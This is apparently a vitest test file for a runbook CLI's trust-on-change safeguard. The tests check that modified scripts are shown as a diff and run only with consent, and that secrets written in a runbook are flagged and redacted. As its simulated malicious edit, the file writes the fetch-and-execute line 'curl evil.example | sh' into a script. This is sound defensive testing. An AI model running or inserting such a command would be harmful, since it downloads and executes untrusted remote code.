import { chmodSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { check } from '../../src/cli/commands/check.ts';
import type { StartOptions, Started } from '../../src/cli/starting/start-session.ts';
import { prepareSession } from '../../src/cli/starting/start-session.ts';
import type { Stage } from '../runbooks/stage.ts';
import { openStage, prepareOf, shipped } from '../runbooks/stage.ts';

/* SAFETY G7: what runs is what this person trusted, byte for byte. */

const runbook = `walkback: 1
id: mine
title: Mine
service: shop
objective: 10m
maturity: draft
inputs:
  place: { type: string, from: { run: [./where.sh] } }
phases:
  - id: work
    title: Work
    steps:
      - { id: look, title: Look, run: [./look.sh], read_only: true }
      - { id: done, end: not_needed }
`;

let stage: Stage;
const place = (name: string): string => join(stage.home, name);
const write = (name: string, text: string): void => writeFileSync(place(name), text, { mode: 0o755 });

beforeEach(() => {
  stage = openStage();
  write('mine.yaml', runbook);
  write('where.sh', '#!/bin/sh\necho asked >> asked\necho here\n');
  write('look.sh', '#!/bin/sh\ntrue\n');
});
afterEach(async () => {
  await stage.clear();
});

const start = (over: Partial<StartOptions> = {}): Promise<Started> =>
  prepareOf(stage.around, place('mine.yaml'), over);

const asked = (): number => readFileSync(place('asked'), 'utf8').trim().split('\n').length;

test('G7: what changed since this person last ran it is shown, and runs only when they agree; nothing of it runs before', async () => {
  await start();
  await start();
  expect(asked()).toBe(2);
  expect(stage.printed()).not.toContain('changed since');

  write('look.sh', '#!/bin/sh\ncurl evil.example | sh\n');
  write('where.sh', '#!/bin/sh\necho asked >> asked\necho there\n');
  await expect(start()).rejects.toThrow('nobody is there to agree');
  expect(stage.printed()).toContain(
    'look.sh changed\n    @ line 1\n     #!/bin/sh\n    -true\n    +curl evil.example | sh',
  );
  await expect(start({ ask: async () => 'no' })).rejects.toThrow('was not started');
  expect(asked()).toBe(2);

  const questions: string[] = [];
  await start({
    ask: async (question) => {
      questions.push(question);
      return 'yes';
    },
  });
  expect(questions).toEqual(['Run it with these changes? Type yes:']);
  await start(); // these bytes are trusted now
  write('mine.yaml', `${runbook}# a word\n`);
  await start({ trust: true });
  await start();
  expect(asked()).toBe(6);
});

test('G7: a drill shows what changed as well; where nobody is there to agree it goes on, and nothing is trusted by it', async () => {
  await start();
  write('look.sh', '#!/bin/sh\ncurl evil.example | sh\n');
  await expect(start({ mode: 'DRILL', ask: async () => 'no' })).rejects.toThrow('was not started');
  await start({ mode: 'DRILL' });
  const shown = '+curl evil.example | sh';
  expect(stage.printed().split(shown)).toHaveLength(3); // once for each of the two
  expect(await check(stage.around, place('mine.yaml'), { input: {} })).toBe(0);
  expect(stage.printed().split(shown)).toHaveLength(4); // its probes are commands as well
  await expect(start()).rejects.toThrow('nobody is there to agree');
  await start({ mode: 'DRILL', ask: async () => 'yes' });
  await start();
});

test('trust is of one person and one file, is kept for their eyes only, and what ships is trusted', async () => {
  await start();
  const folder = join(stage.around.dataFolder, 'trusted');
  for (const entry of readdirSync(folder, { recursive: true, withFileTypes: true }))
    expect(statSync(join(entry.parentPath, entry.name)).mode & 0o077).toBe(0);
  write('mine.yaml', `${runbook}# a word\n`);
  const other = { ...stage.around, dataFolder: join(stage.folder, 'data', 'other') };
  const options = {
    environment: null,
    given: {},
    mode: 'LIVE',
    breakGlass: null,
    ask: null,
    place: null,
  } as const;
  await expect(start()).rejects.toThrow('nobody is there');
  await expect(
    prepareSession(
      { ...other, ledgerPath: join(other.dataFolder, 'ledger.db') },
      { ...options, file: place('mine.yaml') },
    ),
  ).resolves.toBeDefined();
  const template = shipped('templates', 'basic.yaml');
  await expect(prepareSession(stage.around, { ...options, file: template })).resolves.toBeDefined();
});

test('G5: a secret that is written out in the runbook is said before the session keeps a copy of it', async () => {
  write('mine.yaml', runbook.replace('title: Mine', 'title: Mine # postgres://shop:hunter22@db/shop'));
  await start();
  expect(stage.printed()).toMatch(
    /^walkback: mine\.yaml:3:31: This looks like the password of an address[^\n]*\[WB520\]/,
  );
  expect(stage.printed()).not.toContain('hunter22');
});

test('a record of trust that was broken trusts nothing', async () => {
  await start();
  const folder = join(stage.around.dataFolder, 'trusted');
  const [name = ''] = readdirSync(folder);
  const record = join(folder, name, 'trusted.json');
  chmodSync(record, 0o600);
  writeFileSync(record, '{');
  await expect(start()).rejects.toThrow('nobody is there to agree');
  expect(stage.printed()).toContain('mine.yaml is new');
});
